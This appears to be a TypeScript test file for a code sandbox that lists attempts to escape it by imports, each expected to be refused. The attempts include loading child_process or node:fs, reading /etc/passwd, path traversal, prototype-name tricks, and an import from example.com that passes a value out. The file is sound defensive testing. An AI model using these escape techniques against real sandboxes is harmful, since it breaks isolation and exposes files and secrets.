import { type Attack, both, noText, refused, strategy, threw } from '../attack.ts';

const noLoader = 'the thread has the modules of the program in its memory, and looks for none elsewhere';
const block = ['STRATEGY_FAILED', 'STRATEGY_BLOCKED', 'STRATEGY_INVALID'] as const;

/** An import that stands at the top of the module. */
function imports(id: string, tries: string, statement: string, more: Partial<Attack> = {}): Attack {
  return {
    id,
    tries,
    stoppedBy: noLoader,
    checker: 'blocks',
    code: strategy(`return 'imported';`, { before: statement }),
    expected: refused(...block),
    ...more,
  };
}

/** An import() whose end the second value tells. */
function later(id: string, tries: string, call: string, more: Partial<Attack> = {}): Attack {
  return {
    id,
    tries,
    stoppedBy: `${noLoader}; and jobs of promises are never run`,
    checker: 'blocks',
    code: strategy(
      `const told = seen; ${call}.then((got) => { seen = Object.keys(got).length + ' names'; }, () => { seen = 'no'; }); return told;`,
      {
        create: `let seen = 'no';`,
      },
    ),
    expected: both('no'),
    ...more,
  };
}

/** Imports by every syntax there is, of all that must not be had. */
export const modules: readonly Attack[] = [
  imports('node-static', 'a module of Node.js', `import fs from 'node:fs';`),
  imports('node-bare', 'a module of Node.js without its prefix', `import { execSync } from 'child_process';`),
  imports('node-namespace', 'all of a module of Node.js', `import * as net from 'net';`),
  imports('side-effect', 'an import for what it does', `import 'node:process';`),
  imports('export-from', 'an export of a module’s names', `export { readFileSync } from 'node:fs';`),
  imports('export-all', 'an export of all names of a module', `export * from 'node:fs';`),
  imports('package', 'a package of node_modules', `import pg from 'pg';`),
  imports(
    'confiture-itself',
    'Confiture itself, which has the connections',
    `import * as confiture from 'confiture';`,
  ),
  imports(
    'confiture-deep',
    'a path through the one module that there is',
    `import x from 'confiture/plugin/../../src/index.js';`,
  ),
  imports('data', 'a module as a data: URL', `import x from 'data:text/javascript,export default 1';`),
  imports('file-url', 'a file as a URL', `import x from 'file:///etc/passwd';`),
  imports('http', 'a module from the network', `import x from 'https://example.com/x.js';`),
  imports('absolute', 'a file by its absolute path', `import x from '/etc/hosts.js';`),
  imports(
    'upwards',
    'a file outside the project, by many steps up',
    `import x from '../../../../../../../../etc/hosts.js';`,
  ),
  imports(
    'backslashes',
    'the same with backslashes',
    String.raw`import x from '..\\..\\..\\..\\etc\\hosts.js';`,
  ),
  imports('wasm-file', 'a module of WebAssembly', `import x from './code.wasm';`),
  imports(
    'json-file',
    'a file of JSON, with an attribute',
    `import x from './package.json' with { type: 'json' };`,
  ),
  imports('attribute', 'an attribute nobody knows', `import x from './other.js' with { type: 'bytes' };`, {
    modules: { 'other.js': 'export default 1;' },
    imports: { './other.js': 'other.js' },
    checker: 'passes',
    expected: both('imported'),
    stoppedBy: 'nothing has to: the module is evaluated as any other',
  }),
  imports(
    'fragment',
    'a file with a query and a fragment, to have it twice or as another',
    `import x from './other.js?raw#x';`,
    {
      modules: { 'other.js': 'export default 1;' },
    },
  ),
  imports(
    'percent',
    'a path whose steps up are written as %2e%2e',
    `import x from './%2e%2e/%2e%2e/etc/hosts.js';`,
  ),
  imports(
    'names-of-objects',
    'names that every object has, for whoever looks them up in one',
    `import a from 'constructor';`,
  ),
  imports('proto-name', 'the name __proto__', `import a from '__proto__';`),
  imports('to-string-name', 'the name toString, to be called as a function', `import a from 'toString';`),
  imports(
    'fooled-loader',
    'a loader that was fooled into another module’s place',
    `import x from './x.js';`,
    {
      imports: { './x.js': '/etc/passwd' },
      stoppedBy: `${noLoader}, whatever the table of imports says`,
    },
  ),
  imports(
    'fooled-by-constructor',
    'a table of imports that leads to `constructor`',
    `import x from './x.js';`,
    {
      imports: { './x.js': 'constructor' },
      stoppedBy: `${noLoader}, by own names alone`,
    },
  ),
  imports(
    'fooled-by-to-string',
    'a table of imports that leads to `toString`, and on to its properties',
    `import x from './x.js';`,
    {
      imports: { './x.js': '__proto__' },
      stoppedBy: `${noLoader}, by own names alone`,
    },
  ),
  imports('source-phase', 'an import of the source of a module', `import source x from './code.wasm';`),
  imports('awaited', 'an awaited import() at the top of the module', `const fs = await import('node:fs');`),
  imports('require-call', 'require', `const fs = require('fs');`),
  imports(
    'create-require',
    'a require that is made',
    `import { createRequire } from 'module'; createRequire('/')('fs');`,
  ),
  imports('text-bytecode', 'a module that says it is bytecode', `import x from './code.qjs';`),
  later('dynamic', 'import() of a module of Node.js', `import('node:fs')`),
  later('dynamic-template', 'import() with a template', 'import(`node:${"f"}s`)'),
  later('dynamic-computed', 'import() of a text that is made', `import(['no', 'de:', 'fs'].join(''))`),
  later(
    'dynamic-value',
    'import() of the value, to send it somewhere',
    `import('https://example.com/' + value)`,
  ),
  later(
    'dynamic-object',
    'import() of an object whose text is never done',
    `import({ toString() { throw new Error('x'); } })`,
  ),
  later('dynamic-data', 'import() of a data: URL', `import('data:text/javascript,export const a = 1')`),
  later('dynamic-own', 'import() of itself, evaluated again', `import('./attack.js')`),
  later(
    'dynamic-attributes',
    'import() with attributes',
    `import('./package.json', { with: { type: 'json' } })`,
  ),
  later('dynamic-in-eval', 'import() in eval', `(0, eval)("import('node:fs')")`, {
    expected: threw,
    stoppedBy: 'there is no eval',
  }),
  {
    id: 'dynamic-result',
    tries: 'the promise of an import() as a result',
    stoppedBy: 'a result is a text',
    checker: 'blocks',
    code: strategy(`return import('node:fs');`),
    expected: noText,
  },
  {
    id: 'import-meta',
    tries: 'where the module lies, and what else import.meta has',
    stoppedBy: 'it has nothing, and no function',
    checker: 'blocks',
    code: strategy(`
      const meta = import.meta;
      return Reflect.ownKeys(meta).filter((key) => typeof meta[key] === 'function' || /[/:]/.test(String(meta[key]))).map(String).join();`),
    expected: both(''),
  },
  {
    id: 'import-meta-resolve',
    tries: 'import.meta.resolve',
    stoppedBy: 'there is none',
    checker: 'blocks',
    code: strategy(`return import.meta.resolve('node:fs');`),
    expected: threw,
  },
  {
    id: 'relative',
    tries: 'nothing: a module beside it, which is allowed',
    stoppedBy: 'nothing: it is what a program is made of',
    checker: 'passes',
    code: strategy(`return twice('ab');`, { before: `import { twice } from './lib/twice.js';` }),
    modules: { 'lib/twice.js': `export const twice = (text) => text + text;` },
    imports: { './lib/twice.js': 'lib/twice.js' },
    expected: both('abab'),
  },
  {
    id: 'cycle',
    tries: 'modules that import one another, for a loader without an end',
    stoppedBy: 'a module is loaded once',
    checker: 'passes',
    code: strategy(`return other();`, {
      before: `import { other } from './other.js'; export const mine = () => 'round';`,
    }),
    modules: { 'other.js': `import { mine } from './attack.js'; export const other = () => mine();` },
    imports: { './other.js': 'other.js', './attack.js': 'attack.js' },
    expected: both('round'),
  },
];
